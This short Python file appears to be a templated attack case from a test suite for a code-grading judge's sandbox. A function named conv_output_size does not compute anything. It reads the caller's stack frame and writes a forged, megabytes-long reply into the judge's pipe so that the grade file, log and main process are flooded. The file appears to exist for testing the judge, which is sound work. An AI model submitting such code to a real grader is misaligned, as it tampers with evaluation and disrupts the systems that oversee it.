# Attack: answer a call with a forged reply whose tag is {FLOOD_MB} MB of text: the judge quotes the
# unknown tag, whole, in the status, which grades.csv, the log and the main process then carry.
import os
import sys
import time


def conv_output_size(n, k, stride=1, padding=0):
    request = sys._getframe(1).f_locals["message"]           # sandbox._call's request
    tag = "ab " * ({FLOOD_MB} * 2**20 // 3)
    line = ('{"id": %d, "ok": {"__t": "%s", "v": 0}}\n' % (request["id"], tag)).encode()
    view = memoryview(line)
    while view:
        view = view[os.write(int(sys.argv[2]), view):]       # the reply pipe
    time.sleep(60)                                            # the judge ends the sandbox
